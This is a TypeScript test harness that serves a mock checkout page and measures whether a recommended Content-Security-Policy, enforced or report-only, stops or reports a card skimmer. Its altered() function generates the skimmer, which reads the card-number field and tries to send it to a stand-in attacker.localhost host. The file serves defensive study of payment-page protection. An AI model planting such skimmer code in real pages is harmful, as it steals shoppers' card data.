import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Attacker } from './attacker.ts'
import type { Way } from './ways.ts'

export type Variant = 'none' | 'report-only' | 'enforced'

/**
 * What we recommend for a payment page, less what its own scripts need. `report-uri` instead of `report-to`: that one
 * takes https only, and reports the same.
 */
export const policy = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self'",
  "connect-src 'self'",
  "frame-src 'self'",
  "form-action 'self'",
  "base-uri 'none'",
  "object-src 'none'",
  "frame-ancestors 'none'",
  'report-uri /reports',
].join('; ')

/** A shop whose own script was altered: whatever policy lets that script run lets the skimmer run. */
export interface Shop {
  url: string
  /** Ways that the altered script tries, and the headers of the page, from now on. */
  serve(ways: readonly Way[], variant: Variant): void
  /** Did a report name an address of this way? */
  reported(id: string): boolean
  close(): Promise<void>
}

export async function openShop(ports: Attacker['ports']): Promise<Shop> {
  let served: { ways: readonly Way[]; variant: Variant } = { ways: [], variant: 'none' }
  let reports: string[] = []
  const server = createServer((request, response) => {
    if (request.url === '/reports') {
      const chunks: Buffer[] = []
      request.on('data', (chunk: Buffer) => chunks.push(chunk))
      request.on('end', () => {
        reports.push(Buffer.concat(chunks).toString('utf8'))
        response.writeHead(204).end()
      })
      return
    }
    if (request.url === '/shop.js') {
      response.setHeader('content-type', 'text/javascript')
      response.end(altered(served.ways, ports))
      return
    }
    response.setHeader('content-type', 'text/html; charset=utf-8')
    if (served.variant === 'enforced') response.setHeader('content-security-policy', policy)
    if (served.variant === 'report-only') response.setHeader('content-security-policy-report-only', policy)
    response.end(page)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: `http://shop.localhost:${(server.address() as AddressInfo).port}/checkout`,
    serve(ways, variant) {
      served = { ways, variant }
      reports = []
    },
    // A browser names the origin alone of what it did not load.
    reported: (id) =>
      reports.some((report) => new RegExp(`//(c\\d+\\.)?${id}\\.attacker\\.localhost`).test(report)),
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

const page = `<!doctype html><html lang="en"><title>Checkout</title><body>
<form action="/pay" method="post"><label for="n">Card number</label><input id="n" autocomplete="cc-number">
<button>Pay</button></form><script src="/shop.js"></script></html>`

function altered(ways: readonly Way[], ports: Attacker['ports']): string {
  const tries = ways.map(
    ({ id, script }) =>
      `((to) => { try { ${script} } catch {} })(${JSON.stringify(`http://${id}.attacker.localhost:${ports.http}/`)});`,
  )
  return `const ports = ${JSON.stringify(ports)}
document.querySelector('#n').addEventListener('change', (event) => {
const card = event.target.value;
${tries.join('\n')}
})`
}
